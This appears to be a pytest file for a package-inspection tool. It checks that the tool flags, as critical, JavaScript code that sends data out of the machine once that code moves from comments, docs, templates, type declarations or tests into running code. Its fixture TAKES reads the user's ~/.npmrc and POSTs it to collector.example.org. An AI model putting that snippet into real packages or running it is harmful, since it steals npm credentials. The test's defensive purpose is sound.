"""What never ran in the baseline is new where it runs, wherever it stood."""

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import Files, found
from tests.approvals.inspection.search.looks import places
from tests.approvals.inspection.search.test_look import FAR, LOAD, NEEDLES

START = "const path = require('path');\nexports.join = (a, b) => path.join(a, b);\n"
TAKES = """const fs = require('fs'), os = require('os');
const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
fetch('https://collector.example.org/x', { method: 'POST', body: t });
"""
COMMENTED = "".join(f"// {line}\n" for line in TAKES.splitlines())
PADDING = "".join(f"exports.value{n} = (a) => a + {n};\n" for n in range(3_000))
STEPS: dict[str, tuple[Files, Files]] = {
    "a comment's marks are taken away": (
        {"index.js": f"{START}/* as an example:\n{TAKES}*/\n"},
        {"index.js": f"{START}{TAKES}"},
    ),
    "a comment ends before it": (
        {"index.js": f"{START}/*\n * how:\n{TAKES}*/\n"},
        {"index.js": f"{START}/*\n * how: */\n{TAKES}/**/\n"},
    ),
    "slashes are taken away": (
        {"index.js": f"{START}{COMMENTED}"},
        {"index.js": f"{START}{TAKES}"},
    ),
    "a template ends before it": (
        {"index.js": f"{START}const help = `\n{TAKES}`;\n"},
        {"index.js": f"{START}const help = ``;\n{TAKES}``;\n"},
    ),
    "a comment's marks, in a large file": (
        {"index.js": f"{PADDING}/* as an example:\n{TAKES}*/\n{PADDING}"},
        {"index.js": f"{PADDING}{TAKES}{PADDING}"},
    ),
    "from documentation": (
        {"docs/use.md": f"```js\n{TAKES}```\n", "index.js": START},
        {"docs/use.md": "# Use\n", "index.js": START, "lib/u.js": TAKES},
    ),
    "from a text file": (
        {"use.txt": TAKES, "index.js": START},
        {"index.js": START, "lib/u.js": TAKES},
    ),
    "from declarations of types": (
        {"lib/u.d.ts": f"/*\n{TAKES}*/", "index.js": START},
        {"index.js": START, "lib/u.js": TAKES},
    ),
    "from tests": (
        {"test/u.js": f"/*\n{TAKES}*/", "index.js": START},
        {"index.js": START, "lib/u.js": TAKES},
    ),
    "from a comment in another file": (
        {"lib/a.js": f"/*\n{TAKES}*/\nexports.a = 1;\n", "index.js": START},
        {"lib/a.js": "exports.a = 1;\n", "index.js": START, "lib/u.js": TAKES},
    ),
    "by another ending": (
        {"lib/u.md": f"{START}{TAKES}{FAR}", "index.js": START},
        {"lib/u.js": f"{START}{TAKES}{FAR}", "index.js": START},
    ),
}


@pytest.mark.parametrize("step", STEPS)
def test_what_did_not_run_before_is_new(step: str) -> None:
    old, new = STEPS[step]
    assert Severity.CRITICAL in {one.severity for one in found(old, new, rule="exfiltration")}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param(
            {"lib/a.js": f"{FAR}{LOAD}{FAR}"},
            {"lib/b.js": f"/* Moved. */\n{FAR}{LOAD}{FAR}let a = `b`;"},
            id="to another file",
        ),
        pytest.param(
            {"index.js": f"/* it's\n*/\n{FAR}{LOAD}{FAR}"},
            {"index.js": f"/** it is `one */\n{FAR}{LOAD}{FAR}"},
            id="below a changed comment",
        ),
        pytest.param(
            {"index.js": f"{PADDING}{FAR}{LOAD}{FAR}"},
            {"index.js": f"const globs = ['**/*.js', '`'];\n{PADDING}{FAR}{LOAD}{FAR}"},
            id="below marks in quotes, in a large file",
        ),
        pytest.param(
            {"index.js": f"{FAR}{LOAD}{FAR}"},
            {"index.js": f"const globs = ['**/*.js', '`'];\n{FAR}{LOAD}{FAR}"},
            id="below marks in quotes",
        ),
    ],
)
def test_what_ran_before_is_not(monkeypatch: pytest.MonkeyPatch, old: Files, new: Files) -> None:
    assert places(monkeypatch, NEEDLES, old, new)[0] == []
